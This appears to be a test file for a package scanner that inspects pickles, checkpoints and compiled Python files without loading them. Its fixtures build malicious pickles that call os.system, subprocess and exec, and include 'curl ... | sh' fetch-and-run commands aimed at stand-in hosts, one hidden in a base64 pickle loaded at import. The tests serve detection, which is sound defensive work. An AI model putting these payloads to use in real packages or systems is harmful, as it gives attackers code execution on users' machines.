"""The pickle front end: the callables a pickle names, read from its opcodes, never loaded."""

from __future__ import annotations

import base64
import gzip
import io
import marshal
import os
import pickle
import pickletools
import subprocess
import zipfile
import zlib
from collections import OrderedDict

import pytest
from tests.helpers import sdist_bytes

from capwatch.config import Limits
from capwatch.engine import scan_bytes
from capwatch.lang.base import FileAnalysis, ProblemKind
from capwatch.lang.python.analyzer import PythonAnalyzer
from capwatch.lang.serialized import analyze_compiled, analyze_pickle, callable_name
from capwatch.model import FactKind, Verdict


class _Runs:
    """Pickles as a call of ``func`` with ``args`` (``pickle.dumps`` only names the callable)."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def _analyze(data: bytes, limits: Limits | None = None) -> FileAnalysis:
    analyzer = PythonAnalyzer(limits or Limits())
    return analyze_pickle(data, "pkg/data.pkl", "<pkg/data.pkl>", analyzer)


def _calls(result: FileAnalysis) -> dict[str, tuple[str, ...]]:
    return {f.name: f.args for f in result.facts if f.kind is FactKind.CALL}


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
def test_every_protocol_names_its_callables_with_their_arguments(protocol: int) -> None:
    data = pickle.dumps({"w": [1.5], "hook": _Runs(os.system, "id -u")}, protocol=protocol)
    calls = _calls(_analyze(data))
    assert calls["os.system"] == ("id -u",)  # posix.system, as the Python front end names it


def test_memoised_names_and_nested_calls() -> None:
    inner = _Runs(bytes.fromhex, "6964")
    data = pickle.dumps([_Runs(subprocess.check_output, ["sh", "-c", "id"]), inner, inner], 4)
    calls = _calls(_analyze(data))
    assert calls["subprocess.check_output"] == ("sh", "-c", "id")
    assert "bytes.fromhex" in calls


def test_code_handed_to_exec_is_analysed_as_code() -> None:
    data = pickle.dumps(_Runs(exec, "import socket\nsocket.create_connection(('h', 1))"), 2)
    result = _analyze(data)
    nested = [f for f in result.facts if f.decode_chain == ("pickle",)]
    assert any(f.name == "socket.create_connection" for f in nested)


def test_data_pickles_name_only_their_classes() -> None:
    data = pickle.dumps([OrderedDict(a=1), {1, 2}, b"\x00" * 40], protocol=2)
    assert set(_calls(_analyze(data))) <= {"collections.OrderedDict", "set", "_codecs.encode"}


def test_not_a_pickle_gives_nothing_and_a_cut_pickle_gives_the_calls_it_reached() -> None:
    assert not _analyze(b"plain text that happens to be named .pkl\n").facts
    data = pickle.dumps([_Runs(os.system, "id"), _Runs(os.remove, "x")], protocol=0)
    cut = data[: data.index(b"remove")]  # loading runs the first call before it fails
    assert set(_calls(_analyze(cut))) == {"os.system"}
    assert not _calls(_analyze(data[: data.index(b"(Vid")]))  # cut before its call


def test_a_module_imported_and_an_attribute_got_are_followed() -> None:
    # builtins.getattr(builtins.__import__("os"), "system")("id"), written out by hand
    data = (
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(Vid\ntR."
    )
    calls = _calls(_analyze(data))
    assert calls["os.system"] == ("id",)


def test_compressed_pickles_and_object_arrays_are_unwrapped() -> None:
    data = pickle.dumps(_Runs(os.system, "id"), protocol=4)
    assert "os.system" in _calls(_analyze(zlib.compress(data)))
    assert "os.system" in _calls(_analyze(gzip.compress(data)))
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(118) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + data
    assert "os.system" in _calls(_analyze(npy))
    bomb = zlib.compress(b"\x80\x02" + b"N0" * 200_000 + b".")
    assert not _analyze(bomb, Limits(decoded_bytes=1000)).facts  # past the limit: not read


def test_a_long_list_built_one_item_at_a_time_keeps_few_items() -> None:
    data = pickle.dumps([*range(50_000), _Runs(os.system, "id")], protocol=0)  # APPEND each
    result = _analyze(data)
    assert "os.system" in _calls(result)
    # held items are bounded, so each APPEND copies at most MAX_ITEMS of them (a linear walk)
    from capwatch.lang import serialized
    machine = serialized._Machine(result, "p", "s", None)
    for op, arg, position in pickletools.genops(io.BytesIO(data)):
        if op.name == "STOP":
            break
        machine.step(op, arg, position or 0)
    assert all(len(v.items) <= serialized.MAX_ITEMS for v in machine.stack
               if isinstance(v, serialized._Items))


def test_opcode_limit_is_a_problem_not_a_hang() -> None:
    data = pickle.dumps(list(range(5000)), protocol=0)
    result = _analyze(data, Limits(pickle_opcodes=100))
    assert [p.kind for p in result.problems] == [ProblemKind.TOO_LARGE]


def test_callable_names_follow_the_python_front_end() -> None:
    assert callable_name("nt", "system") == "os.system"
    assert callable_name("__builtin__", "eval") == "eval"
    assert callable_name("torch._utils", "_rebuild_tensor_v2") == "torch._utils._rebuild_tensor_v2"


def test_checkpoint_archive_and_pickle_files_are_scanned_in_a_release() -> None:
    checkpoint = io.BytesIO()
    with zipfile.ZipFile(checkpoint, "w") as archive:
        archive.writestr("net/data.pkl", pickle.dumps(_Runs(os.system, "id"), protocol=2))
        archive.writestr("net/version", "3\n")
    release = sdist_bytes(
        {
            "setup.py": "from setuptools import setup\nsetup(name='netkit', version='1.0')\n",
            "netkit/__init__.py": "",
            "netkit/net.pt": checkpoint.getvalue(),
            "netkit/table.pkl": pickle.dumps(OrderedDict(a=1), protocol=4),
        },
        top="netkit-1.0",
    )
    result = scan_bytes(release, "netkit-1.0.tar.gz")
    fired = [f for f in result.findings if f.rule == "CW126"]
    assert fired and fired[0].location.path == "netkit-1.0/netkit/net.pt!net/data.pkl"
    assert result.verdict is Verdict.MALICIOUS


def test_a_compiled_module_is_read_for_its_strings_without_loading_it() -> None:
    source = "import os\n\ndef run():\n    os.system('curl -s https://paste.example.invalid/raw | sh')\n"
    code = compile(source, "tool.py", "exec")
    header = b"\x00" * 16  # magic, flags, timestamp and size of a CPython 3.7+ .pyc
    analysis = analyze_compiled(
        header + marshal.dumps(code), "pkg/tool.pyc", "pkg.tool", PythonAnalyzer(Limits()),
        is_package=False,
    )
    texts = {f.value for f in analysis.facts if f.kind is FactKind.LITERAL}
    assert "curl -s https://paste.example.invalid/raw | sh" in texts
    assert all(f.decode_chain == ("compiled",) for f in analysis.facts)
    broken = analyze_compiled(b"not bytecode", "pkg/x.pyc", "pkg.x", PythonAnalyzer(Limits()),
                              is_package=False)
    assert [p.kind for p in broken.problems] == [ProblemKind.UNPARSABLE]


# -- pickled data that a package's code loads -------------------------------------------------


def test_render_pickle_gives_the_calls_as_code() -> None:
    from capwatch.lang.serialized import render_pickle

    data = pickle.dumps([_Runs(subprocess.Popen, ["sh", "-c", "id"]), _Runs(os.system, "uname")], 4)
    text = render_pickle(data, Limits())
    assert text.splitlines() == [
        "import os",
        "import subprocess",
        "subprocess.Popen('sh', '-c', 'id')",
        "os.system('uname')",
    ]


def test_render_pickle_of_plain_values_is_not_code() -> None:
    from capwatch.lang.serialized import render_pickle
    from capwatch.unpack.decoders import DecodeError

    with pytest.raises(DecodeError):
        render_pickle(pickle.dumps({"a": [1, 2.5, "x"]}, 4), Limits())
    with pytest.raises(DecodeError):
        render_pickle(b"not a pickle at all", Limits())


def test_render_pickle_stops_at_the_opcode_limit() -> None:
    from capwatch.lang.serialized import render_pickle

    data = pickle.dumps([_Runs(os.system, "first")] + [1] * 500 + [_Runs(os.system, "late")], 4)
    text = render_pickle(data, Limits(pickle_opcodes=40))
    assert "os.system('first')" in text and "late" not in text


def test_pickle_loaded_from_a_literal_runs_at_import() -> None:
    blob = base64.b64encode(pickle.dumps(_Runs(os.system, "curl -s https://x.invalid/a | sh"), 4))
    module = f'import base64, pickle\nstate = pickle.loads(base64.b64decode("{blob.decode()}"))\n'
    result = scan_bytes(sdist_bytes({"warm/__init__.py": module}), "warm-1.0.tar.gz")
    assert result.verdict is Verdict.MALICIOUS
    assert any(f.rule == "CW101" and "pickle.loads" in f.message for f in result.findings)


def test_pickle_of_plain_values_loaded_from_a_literal_is_clean() -> None:
    blob = base64.b64encode(pickle.dumps({"version": 3, "names": OrderedDict(a=1)}, 4))
    module = f'import base64, pickle\nDEFAULTS = pickle.loads(base64.b64decode("{blob.decode()}"))\n'
    result = scan_bytes(sdist_bytes({"tzc/__init__.py": module}), "tzc-1.0.tar.gz")
    assert result.verdict is Verdict.CLEAN, result.findings
